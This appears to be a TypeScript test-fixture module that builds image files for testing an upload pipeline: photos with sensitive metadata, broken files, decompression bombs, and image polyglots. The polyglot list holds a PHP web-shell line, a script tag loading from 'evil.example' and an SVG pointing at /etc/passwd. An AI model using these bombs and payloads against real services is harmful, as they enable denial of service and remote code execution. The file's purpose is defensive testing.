/** Files that someone might send as a picture, made on the spot: real ones, broken ones, hostile ones. */
import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";
import sharp, { type Sharp } from "sharp";

/** The same numbers every time, 0 to 255. */
function noise(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state >>> 24;
  };
}

/** Soft shapes under a little grain, which compress as photographs do. */
async function photo(width: number, height: number): Promise<Sharp> {
  const next = noise(7);
  const shapes = Buffer.from(Array.from({ length: 64 * 48 * 3 }, next));
  const pixels = await sharp(shapes, { raw: { width: 64, height: 48, channels: 3 } })
    .resize(width, height, { fit: "fill" })
    .raw()
    .toBuffer();
  for (let at = 0; at < pixels.length; at += 1) {
    pixels[at] = Math.min(255, Math.max(0, (pixels[at] ?? 0) + (next() >> 3) - 16));
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } });
}

/** What must not be found in any rendition. */
export const SECRET = "Ward 7, Mercy General";

export type PhotoOptions = {
  width?: number;
  height?: number;
  /** As Exif counts: 6 means that it is to be turned to the right. */
  orientation?: number;
  progressive?: boolean;
};

/** As a phone writes it: with a place, a time, a comment, XMP, IPTC and a profile. */
export async function photoJpeg(options: PhotoOptions = {}): Promise<Buffer> {
  const { width = 800, height = 600, orientation = 1, progressive = false } = options;
  const file = await (
    await photo(width, height)
  )
    .jpeg({ quality: 85, progressive })
    .withMetadata({ orientation })
    .withIccProfile("p3")
    .withExif({
      IFD0: { Make: "Phone", ImageDescription: SECRET },
      IFD2: { DateTimeOriginal: "2026:03:04 02:11:00", UserComment: SECRET },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "51/1 30/1 2650/100",
        GPSLongitudeRef: "W",
        GPSLongitude: "0/1 7/1 3900/100",
      },
    })
    .withXmp(
      `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="${SECRET}"/></rdf:RDF></x:xmpmeta>`,
    )
    .toBuffer();
  return withSegment(withSegment(file, 0xfe, Buffer.from(SECRET)), 0xed, iptc(SECRET));
}

export async function photoPng(options: PhotoOptions = {}): Promise<Buffer> {
  const { width = 640, height = 480, progressive = false } = options;
  return (await photo(width, height)).png({ progressive }).withExif(description).toBuffer();
}

export async function photoWebp(options: PhotoOptions = {}): Promise<Buffer> {
  const { width = 640, height = 480 } = options;
  return (await photo(width, height)).webp({ effort: 0 }).withExif(description).toBuffer();
}

const description = { IFD0: { ImageDescription: SECRET } };

/** Black, half of it so thin that what is behind shows through. */
export function transparentPng(width = 640, height = 480): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 4);
  for (let at = 3; at < pixels.length / 2; at += 4) pixels[at] = 255;
  return sharp(pixels, { raw: { width, height, channels: 4 } })
    .png()
    .toBuffer();
}

/** Whatever sharp writes that is not taken. */
export function otherPicture(format: "gif" | "tiff" | "avif"): Promise<Buffer> {
  return sharp({ create: { width: 300, height: 300, channels: 3, background: "#842" } })
    .toFormat(format)
    .toBuffer();
}

export const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><image href="file:///etc/passwd"/></svg>',
);

/** The beginning of what an iPhone writes unless it is asked for JPEG. */
export const heic = Buffer.concat([box("ftyp", Buffer.from("heic\0\0\0\0mif1heic")), box("meta")]);

export function cutShort(file: Buffer, part = 0.6): Buffer {
  return file.subarray(0, Math.floor(file.length * part));
}

// JPEG segments -----------------------------------------------------------------------------------

/** Puts a segment right behind the first two bytes. */
export function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

function iptc(caption: string): Buffer {
  const record = Buffer.concat([
    Buffer.from([0x1c, 2, 120, 0, caption.length]),
    Buffer.from(caption),
  ]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(record.length);
  const padding = Buffer.alloc(record.length % 2);
  return Buffer.concat([
    Buffer.from("Photoshop 3.0\x008BIM\x04\x04\0\0", "latin1"),
    length,
    record,
    padding,
  ]);
}

// What phones add ---------------------------------------------------------------------------------

function box(type: string, content: Buffer = Buffer.alloc(8)): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(content.length + 8);
  head.write(type, 4, "latin1");
  return Buffer.concat([head, content]);
}

function video(): Buffer {
  const next = noise(11);
  return Buffer.concat([
    box("ftyp", Buffer.from("mp42\0\0\0\0isommp42")),
    box("mdat", Buffer.from(Array.from({ length: 200_000 }, next))),
    box("moov"),
  ]);
}

/** A picture with the second before and after it as a video behind it. */
export async function motionPhoto(): Promise<Buffer> {
  const xmp = Buffer.from(
    'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:GCamera="http://ns.google.com/photos/1.0/camera/" GCamera:MotionPhoto="1" GCamera:MotionPhotoVersion="1"/></rdf:RDF></x:xmpmeta>',
  );
  return Buffer.concat([withSegment(await photoJpeg(), 0xe1, xmp), video()]);
}

/** As Samsung ends its pictures: named blocks, the video among them, and a directory of them. */
export async function samsungPhoto(): Promise<Buffer> {
  const name = Buffer.from("MotionPhoto_Data");
  const block = Buffer.concat([Buffer.from([0, 0, 0x30, 0x0a, name.length, 0, 0, 0]), name]);
  const directory = Buffer.alloc(24);
  directory.write("SEFH", 0, "latin1");
  directory.writeUInt32LE(107, 4);
  directory.writeUInt32LE(1, 8);
  const end = Buffer.from([24, 0, 0, 0, ...Buffer.from("SEFT")]);
  return Buffer.concat([await photoJpeg(), block, video(), directory, end]);
}

/** With a second, smaller picture behind it that says how bright each part is, told of by MPF and XMP. */
export async function gainMapPhoto(): Promise<Buffer> {
  const hdr = (tags: string) =>
    Buffer.from(
      `http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:hdrgm="http://ns.adobe.com/hdr-gain-map/1.0/" hdrgm:Version="1.0"${tags}/></rdf:RDF></x:xmpmeta>`,
    );
  const map = withSegment(
    await (await photo(400, 300)).greyscale().jpeg().toBuffer(),
    0xe1,
    hdr(' hdrgm:GainMapMax="2.3" hdrgm:HDRCapacityMax="2.3"'),
  );
  const primary = withSegment(await photoJpeg(), 0xe1, hdr(""));
  const index = (offset: number) => multiPicture(primary.length + 92, map.length, offset);
  const withIndex = (offset: number) => withSegment(primary, 0xe2, index(offset));
  const length = withIndex(0).length;
  // Counted from the index's own byte order mark: behind SOI, marker, length and "MPF\0".
  return Buffer.concat([withIndex(length - 10), map]);
}

/** The index of CIPA DC-007, with two entries. */
function multiPicture(first: number, second: number, offset: number): Buffer {
  const entry = (attribute: number, size: number, at: number) => {
    const bytes = Buffer.alloc(16);
    bytes.writeUInt32BE(attribute, 0);
    bytes.writeUInt32BE(size, 4);
    bytes.writeUInt32BE(at, 8);
    return bytes;
  };
  const tag = (id: number, type: number, count: number, value: number | string) => {
    const bytes = Buffer.alloc(12);
    bytes.writeUInt16BE(id, 0);
    bytes.writeUInt16BE(type, 2);
    bytes.writeUInt32BE(count, 4);
    if (typeof value === "string") bytes.write(value, 8, "latin1");
    else bytes.writeUInt32BE(value, 8);
    return bytes;
  };
  return Buffer.concat([
    Buffer.from("MPF\0MM\0*\0\0\0\x08\0\x03", "latin1"),
    tag(0xb000, 7, 4, "0100"),
    tag(0xb001, 4, 1, 2),
    tag(0xb002, 7, 32, 50),
    Buffer.alloc(4),
    entry(0x030000, first, 0),
    entry(0, second, offset),
  ]);
}

// Bombs -------------------------------------------------------------------------------------------

function pngChunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, "latin1"), content]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
}

/**
 * A whole, correct PNG of `side`² black pixels: 588 MB from 600 KB at 14,000. What a run of zeros
 * compresses to is repeated, so that making it takes milliseconds.
 */
export function bombPng(side = 14_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const total = side * (side * 3 + 1);
  const run = 1 << 24;
  const deflated = (length: number) =>
    deflateRawSync(Buffer.alloc(length), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const runs = Array<Buffer>(Math.floor(total / run)).fill(deflated(run));
  const rest = deflateRawSync(Buffer.alloc(total % run), { level: 9 });
  // Adler-32 of zeros only.
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65_521) << 16) | 1) >>> 0);
  const data = Buffer.concat([Buffer.from([0x78, 0xda]), ...runs, rest, adler]);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    pngChunk("IHDR", header),
    pngChunk("IDAT", data),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A small picture with 40 texts, each of which unpacks to 50 MB: 2 GB from 2 MB. */
export async function textBombPng(): Promise<Buffer> {
  const file = await (await photo(400, 300)).png().toBuffer();
  const text = Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(Buffer.alloc(50_000_000))]);
  const afterHeader = 8 + 25;
  return Buffer.concat([
    file.subarray(0, afterHeader),
    ...Array<Buffer>(40).fill(pngChunk("zTXt", text)),
    file.subarray(afterHeader),
  ]);
}

/** A small JPEG that claims 65,000² pixels. */
export async function bombJpeg(): Promise<Buffer> {
  const file = Buffer.from(await (await photo(400, 300)).jpeg().toBuffer());
  const frame = file.indexOf(Buffer.from([0xff, 0xc0]));
  file.writeUInt16BE(65_000, frame + 5);
  file.writeUInt16BE(65_000, frame + 7);
  return file;
}

/** A small WebP that claims 16,383² pixels. */
export async function bombWebp(): Promise<Buffer> {
  const file = Buffer.from(await (await photo(400, 300)).webp().toBuffer());
  file.writeUInt16LE(16_383, 26);
  file.writeUInt16LE(16_383, 28);
  return file;
}

// Two things at once ------------------------------------------------------------------------------

/** An archive of one stored file. */
export function zip(name = "run.html", content = Buffer.from("<b>hello</b>")): Buffer {
  const shared = Buffer.alloc(26);
  shared.writeUInt16LE(20, 0);
  shared.writeUInt32LE(crc32(content), 10);
  shared.writeUInt32LE(content.length, 14);
  shared.writeUInt32LE(content.length, 18);
  shared.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from("PK\x03\x04"), shared, Buffer.from(name), content]);
  const central = Buffer.concat([
    Buffer.from("PK\x01\x02\x14\0"),
    shared,
    Buffer.alloc(14),
    Buffer.from(name),
  ]);
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", 0, "latin1");
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

export const pdf = Buffer.from(
  "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
);

/** Each is a picture that decodes, and something else as well. */
export async function polyglots(): Promise<{ what: string; type: string; bytes: Buffer }[]> {
  const jpeg = await (await photo(400, 300)).jpeg().toBuffer();
  const png = await photoPng();
  const webp = await photoWebp();
  const behind = (file: Buffer, more: Buffer | string) =>
    Buffer.concat([file, typeof more === "string" ? Buffer.from(more, "latin1") : more]);
  const comment = (text: string | Buffer) => withSegment(jpeg, 0xfe, Buffer.from(text));
  const chunk = (text: string) =>
    Buffer.concat([
      png.subarray(0, 33),
      pngChunk("tEXt", Buffer.from(`Comment\0${text}`)),
      png.subarray(33),
    ]);
  const all: [string, Buffer][] = [
    ["JPEG and ZIP behind it", behind(jpeg, zip())],
    ["JPEG and ZIP within it", comment(zip())],
    ["JPEG and an empty ZIP", behind(jpeg, `PK\x05\x06${"\0".repeat(18)}`)],
    ["JPEG and ZIP, with more behind it", behind(jpeg, Buffer.concat([zip(), Buffer.alloc(500)]))],
    ["PNG and ZIP", behind(png, zip())],
    ["WebP and ZIP", behind(webp, zip())],
    ["JPEG and PDF", comment(pdf)],
    ["PNG and PDF", chunk(pdf.toString())],
    ["WebP and PDF", behind(webp, pdf)],
    ["JPEG and RAR", behind(jpeg, "Rar!\x1a\x07\x01\x00")],
    ["PNG and 7z", behind(png, "7z\xbc\xaf\x27\x1c\x00\x04")],
    ["JPEG and HTML", comment("<HTML><body>hello</body></HTML>")],
    ["PNG and HTML", chunk("<script src=//evil.example></script>")],
    ["WebP and HTML", behind(webp, "<!DOCTYPE html><p>hello")],
    ["JPEG and PHP", comment("<?php system($_GET[0]); ?>")],
    ["JPEG and PHAR", behind(jpeg, "__HALT_COMPILER(); ?>")],
    ["JPEG and JavaScript", withSegment(jpeg, 0xe0, Buffer.alloc(0x2f2a - 2))],
    ["WebP and JavaScript", asScript(webp)],
    ["JPEG and TAR", comment(Buffer.concat([Buffer.alloc(251, 32), Buffer.from("ustar\0")]))],
  ];
  const types: Record<string, string> = { J: "image/jpeg", P: "image/png", W: "image/webp" };
  return all.map(([what, bytes]) => ({ what, type: types[what.charAt(0)] ?? "", bytes }));
}

/** Filled up so that its length spells a space and the beginning of a comment: `RIFF /*`. */
function asScript(webp: Buffer): Buffer {
  const length = 0x2a_2f_20;
  const filled = Buffer.alloc(length + 8);
  webp.copy(filled);
  filled.writeUInt32LE(length, 4);
  filled.write("JUNK", webp.length, "latin1");
  filled.writeUInt32LE(filled.length - webp.length - 8, webp.length + 4);
  return filled;
}
